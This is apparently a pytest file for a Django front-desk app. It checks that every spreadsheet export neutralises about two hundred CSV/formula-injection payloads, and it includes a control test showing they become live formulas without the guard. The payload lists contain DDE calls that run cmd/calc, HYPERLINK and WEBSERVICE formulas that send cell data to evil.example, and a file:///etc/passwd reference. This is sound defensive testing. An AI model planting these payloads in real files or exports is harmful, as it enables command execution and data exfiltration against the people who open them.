"""No export of the product ever writes a formula: two hundred payloads go through every column of every one.

Exports are found by asking every address for a spreadsheet, so a new one is tested by being there.
"""

import ast
import re
import sys
from collections.abc import Iterable, Iterator
from io import BytesIO
from itertools import product
from typing import Any
from zipfile import ZipFile

import pytest
from django.test import Client
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell

from frontdesk.excel import write as writing
from frontdesk.excel.write import as_held, write
from frontdesk.journal import trail
from frontdesk.people.models import Department, Person
from frontdesk.web.export import XLSX
from tests.counts import count
from tests.factories.people import DepartmentFactory, PersonFactory
from tests.factories.visitors import expected_visit
from tests.figures import Figure
from tests.habits.test_code import FILES, ROOT
from tests.matrix import records_of
from tests.moments import MONDAY_9AM
from tests.pages import addresses

# What spreadsheets take for the beginning of a formula (OWASP, "CSV Injection"), in disguises that some of them see through.
BEGINNINGS = (
    *("=", "+", "-", "@", "==", "=-", "+=", "@="),
    *("\t=", "\r=", "\n=", "\r\n=", " =", "\u00a0=", "\u3000=", "\u200b=", "\ufeff=", "\u202e="),
    *("＝", "＋", "－", "＠", "﹦", "⁼", "−"),
    *('"=', "'=", ";=", ",=", "{=", "|=", "\x00="),
    *("=\t", "= "),
)
ENDS = (
    "1+1",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://evil.example/"&A2)',
    "'file:///etc/passwd'#$passwd.A1",
)
BARE = ("=", "+", "-", "@", "＝", "=#REF!", "#N/A", "{=1}", "_x003D_1")
PAYLOADS = [*BARE, *(begins + ends for begins, ends in product(BEGINNINGS, ENDS))][:: count(1, 12)]


@pytest.fixture
def everywhere(olga: Person, ann: Person) -> tuple[Client, dict[str, str]]:
    """The manager's browser and every address."""
    client = Client()
    client.force_login(olga)
    return client, addresses(records_of(olga))


def exports(client: Client, paths: dict[str, str]) -> Iterator[tuple[str, bytes]]:
    """Name and file of every address that answers with a spreadsheet."""
    for name, path in paths.items():
        response = client.get(path)
        file = b"".join(response) if response.streaming else response.content
        if response.headers.get("Content-Type") == XLSX:
            yield name, file


def formulas(file: bytes) -> list[str]:
    """Where something stands that a spreadsheet would work out."""
    sheet = load_workbook(BytesIO(file)).active
    found = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")]
    with ZipFile(BytesIO(file)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/")]
        found += [name for name in sheets if re.search(rb"<f[ />]", package.read(name))]
    return found


def texts(file: bytes) -> list[list[Any]]:
    """What stands below the heads."""
    return [list(row) for row in load_workbook(BytesIO(file)).active.iter_rows(min_row=2, values_only=True)]


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
    """Whatever an export would write, it writes the payloads instead, into every column; how wide each was, by its title."""
    widths: dict[str, int] = {}

    def instead(out: Any, *, title: str, heads: list[str], rows: Iterable[Any], **more: Any) -> int:
        list(rows)
        widths[f"{len(widths)} {title}"] = len(heads)
        return write(out, title=title, heads=heads, rows=([payload] * len(heads) for payload in PAYLOADS), **more)

    for module in list(sys.modules.values()):
        if getattr(module, "write", None) is write and module is not writing and not module.__name__.startswith("tests."):
            monkeypatch.setattr(module, "write", instead)
    return widths


@pytest.mark.once
@pytest.mark.django_db
def test_two_hundred_payloads_through_every_column_of_every_export_are_text_and_come_back_equal(
    everywhere: tuple[Client, dict[str, str]], planted: dict[str, int], figure: Figure
) -> None:
    wrong: dict[str, Any] = {}
    columns = cells = 0
    names = set()
    for name, file in exports(*everywhere):
        rows = texts(file)
        wide = len(rows[0])
        if found := formulas(file):
            wrong[name] = found
        if rows != [[as_held(payload)] * wide for payload in PAYLOADS]:
            wrong[name] = "not the same text"
        names.add(name)
        columns, cells = columns + wide, cells + wide * len(rows)

    figure(f"{len(PAYLOADS)} payloads, {len(names)} exports, {columns} columns: {cells} cells, {len(wrong)} wrong")
    assert (wrong, len(PAYLOADS) >= count(200, 18), len(set(PAYLOADS)) == len(PAYLOADS)) == ({}, True, True)
    assert {"visitors:visit_export", "person_export", "journal_export", "workday_export"} <= names
    assert sum(planted.values()) == columns  # nothing that is a spreadsheet was written in another way


@pytest.mark.prove
@pytest.mark.django_db
def test_control_without_the_guard_the_same_payloads_are_formulas(
    everywhere: tuple[Client, dict[str, str]], planted: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    guarded = writing.cell
    unguarded = lambda sheet, value: WriteOnlyCell(sheet, as_held(value)) if isinstance(value, str) else guarded(sheet, value)  # noqa: E731
    monkeypatch.setattr(writing, "cell", unguarded)

    found = {name: formulas(file) for name, file in exports(*everywhere)}

    begin = sum(payload.startswith("=") and len(payload) > 1 for payload in PAYLOADS)
    assert len(found) >= 4
    assert {name: len(cells) >= begin for name, cells in found.items()} == dict.fromkeys(found, True)


@pytest.mark.once
@pytest.mark.django_db
def test_records_whose_every_text_is_a_payload_come_back_as_they_are(ann: Person, olga: Person, product: Department) -> None:
    client, spoken = Client(), [payload.strip().replace("\x00", "") for payload in PAYLOADS]
    client.force_login(olga)
    for number, payload in enumerate(spoken):
        text = payload[:70]
        department = DepartmentFactory(name=f"{text}{number}", name_en="", parent=product) if number < 40 else product
        PersonFactory(name=text, name_en=text, title=text, email=text, mobile=text[:20], extension=text[:20], department=department)
        visit = expected_visit(ann, name=text, company=text, note=text)
        trail.record("cancel", subject=visit, by=olga, device=text, at=MONDAY_9AM, details={"note": text})
    wanted = {as_held(text[:70]) for text in spoken}

    for path in ("/people/export/", "/visitors/export/?day=all", "/journal/export/"):
        file = b"".join(client.get(path))
        values = {value for row in texts(file) for value in row}
        assert (path, formulas(file), wanted - values) == (path, [], set())


def test_only_one_module_makes_workbooks() -> None:
    """What does not go through it would not be guarded."""
    makers = []
    for path in FILES:
        if "tests" in path.parts or "benchmarks" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl" and any(each.name == "Workbook" for each in node.names):
                makers.append(str(path.relative_to(ROOT)))
    assert makers == ["frontdesk/excel/write.py"]
